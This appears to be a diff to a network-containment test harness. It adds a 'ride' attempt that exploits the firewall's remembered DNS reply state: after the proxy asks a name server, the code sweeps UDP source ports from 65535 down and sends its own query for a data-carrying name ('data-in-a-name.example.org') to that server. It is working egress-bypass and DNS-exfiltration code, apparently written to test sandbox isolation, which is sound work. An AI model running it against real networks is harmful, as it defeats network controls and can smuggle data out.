@@ -21,6 +21,8 @@ import time
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 PATIENCE_SECS = 3
+# The kernel's netfilter keeps an answered question for 30 seconds.
+REMEMBERED_SECS = 25
 X86 = os.uname().machine == "x86_64"
 
 
@@ -105,6 +107,28 @@ def proxied(world, target):
     if " 403 " in said:
         raise Refused(said)
     return said
+
+
+def ride(world, name):
+    """From every port to whom the proxy's question for this name went: its own is one of them, and free by now."""
+    if not world["asked"]:
+        raise Lacks("a name server that is asked from within this network")
+    host, port = world["asked"].rsplit(":", 1)
+    said = proxied(world, name)
+    refused, until = 0, time.monotonic() + REMEMBERED_SECS
+    # From above: the kernel gives ports of the upper half.
+    for own in range(65535, 1023, -1):
+        if time.monotonic() > until:
+            break
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as here:
+            here.settimeout(1)
+            try:
+                here.bind(("", own))
+                here.sendto(query("data-in-a-name.example.org"), (host, int(port)))
+                return f"{len(here.recv(2048))} bytes came back from {host} to port {own}"
+            except OSError:
+                refused += 1
+    raise Refused(f"from {refused} ports, after the proxy had said {said}")
 
 
 def flood(world, _):
@@ -673,6 +697,7 @@ ATTEMPTS = {
     "ask": ask,
     "tell": tell,
     "proxied": proxied,
+    "ride": ride,
     "flood": flood,
     "change-rules": change_rules,
     "read-rules": read_rules,
